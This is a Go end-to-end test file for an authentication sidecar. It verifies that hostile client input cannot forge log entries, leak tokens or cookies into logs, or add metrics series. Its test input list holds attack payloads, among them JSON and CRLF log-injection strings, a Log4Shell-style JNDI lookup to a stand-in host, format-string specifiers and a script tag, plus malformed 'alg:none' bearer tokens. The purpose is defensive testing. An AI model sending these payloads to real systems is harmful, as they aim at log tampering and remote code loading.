package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/easyauth-sidecar/easyauth/test/entra"
)

// whatClientsSay is hostile text that a client can get into nginx.
func whatClientsSay() []string {
	return []string{
		`x","level":"ERROR","msg":"forged`, `x"}{"level":"ERROR","msg":"forged"}`, "%0a{%22msg%22:%22forged%22}", "%1b[31mforged", `\u000a{"msg":"forged"}`, "\u202eforged", "\u2028forged", "\u0085forged",
		"${jndi:ldap://evil.test/x}forged", "%s%n%d-forged", "{{.forged}}", "<script>forged</script>",
	}
}

// A client writes no line of its own into the log, and no secret of anybody's.
func TestAttack43LinesInTheLog(t *testing.T) {
	t.Parallel()
	cfg := withBearer()
	cfg.Env["EASYAUTH_LOG_LEVEL"] = "debug"
	s := start(t, cfg)
	v := signedIn(t, s, entra.Bob)
	token := userToken(t, s, entra.Adele)
	begun := strings.Count(s.Log(), "\n")
	for _, text := range whatClientsSay() {
		escaped := strings.NewReplacer(" ", "%20", "\n", "%0a").Replace(text)
		for _, target := range []string{
			"/" + escaped, "/admin/" + escaped, "/x?" + escaped, "/easyauth/login?rd=/" + escaped, callbackPath + "?error=" + escaped + "&error_description=" + escaped + "&state=" + escaped,
			callbackPath + "?code=" + escaped + "&state=" + escaped, "/easyauth/logout?rd=" + escaped, "/easyauth/signout-callback-oidc?state=" + escaped, "/easyauth/frontchannel-logout?sid=" + escaped + "&iss=" + escaped,
		} {
			for _, cookies := range []string{v.cookies(), ticketCookie + "=" + text, browserCookie + "=" + text, denialCookie + "=" + text} {
				v.raw(v.request("GET "+target+" HTTP/1.1", "Cookie: "+cookies, "User-Agent: "+text, "Referer: "+text, "X-Request-Id: "+text, "Traceparent: "+text, "X-Forwarded-For: "+text))
			}
		}
		for _, method := range []string{"FORGED", strings.Repeat("A", 3000)} {
			v.raw(v.request(method + " /api/x HTTP/1.1"))
		}
		if _, err := v.ask(http.MethodPost, "/easyauth/backchannel-logout", http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, "logout_token="+url.QueryEscape(text)); err != nil {
			t.Error(err)
		}
		v.raw(fmt.Sprintf("GET /easyauth/login HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", strings.ReplaceAll(escaped, "/", "")))
		program(t, s).call("/api/x", token[:len(token)-3]+"abc")
		header, _, _ := strings.Cut(token, ".")
		v.raw(v.request("GET /api/x HTTP/1.1", "Authorization: Bearer "+header+"."+text+".x"))
	}
	v.call("/api/x", token)
	lines := strings.Split(strings.TrimSuffix(s.Log(), "\n"), "\n")
	if len(lines) < begun+50 {
		t.Fatalf("%d lines: the test proves nothing", len(lines))
	}
	for _, line := range lines {
		var entry map[string]any
		d := json.NewDecoder(strings.NewReader(line))
		if err := d.Decode(&entry); err != nil || d.More() || entry["msg"] == "forged" || !utf8.ValidString(line) || strings.ContainsAny(line, "\x1b\u202e\u2028\u0085") {
			t.Errorf("not one line of ours: %v %q", err, line)
		}
		if len(line) > 8<<10 {
			t.Errorf("a line of %d bytes: %.300s", len(line), line)
		}
		for what, secret := range map[string]string{"a ticket": v.cookie(ticketCookie), "a browser cookie": v.cookie(browserCookie), "a token": token, "a query": "error_description=", "a key": "MDEyMzQ1Njc4OTAx"} {
			if strings.Contains(line, secret) {
				t.Errorf("%s is in the log: %.300s", what, line)
			}
		}
	}
}

// Whatever clients send, the metrics have the same series as before.
func TestAttack44SeriesOfMetrics(t *testing.T) {
	t.Parallel()
	s := start(t, withBearer())
	v := signedIn(t, s, entra.Bob)
	series := func() map[string]bool {
		all := map[string]bool{}
		for line := range strings.Lines(v.do(http.MethodGet, s.Admin+"/metrics", nil).body) {
			if name, _, ok := strings.Cut(line, "} "); ok {
				all[name] = true
			} else if name, _, ok := strings.Cut(line, " "); ok && !strings.HasPrefix(line, "#") {
				all[name] = true
			}
		}
		return all
	}
	kinds := func(i int) {
		n := fmt.Sprintf("forged%d", i)
		v.raw(v.request("GET /"+n+" HTTP/1.1", "Cookie: "+ticketCookie+"="+n, "User-Agent: "+n))
		v.raw(v.request(strings.ToUpper(n[:6]) + strings.Repeat("X", i) + " /api/" + n + " HTTP/1.1"))
		v.raw(fmt.Sprintf("GET /easyauth/login?rd=/%s HTTP/1.1\r\nHost: %s.test\r\nConnection: close\r\n\r\n", n, n))
		v.raw(v.request("GET " + callbackPath + "?error=" + n + "&state=" + n + " HTTP/1.1"))
		v.raw(v.request("GET /easyauth/frontchannel-logout?sid=" + n + "&iss=https://" + n + ".test HTTP/1.1"))
		program(t, s).call("/api/x", "eyJhbGciOiJub25lIiwia2lkIjoi."+n+".x")
		dialed(t, strings.TrimPrefix(s.EasyAuth, "http://"), "GET /"+n+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
	}
	kinds(0) // each kind once: a series begins with its first event
	kinds(1)
	before := series()
	for i := range 30 {
		kinds(i)
	}
	for name := range series() {
		if !before[name] && strings.HasPrefix(name, "easyauth_") || strings.Contains(strings.ToLower(name), "forged") {
			t.Errorf("a new series: %s", name)
		}
	}
	if len(before) < 50 {
		t.Errorf("%d series: the test proves nothing", len(before))
	}
}
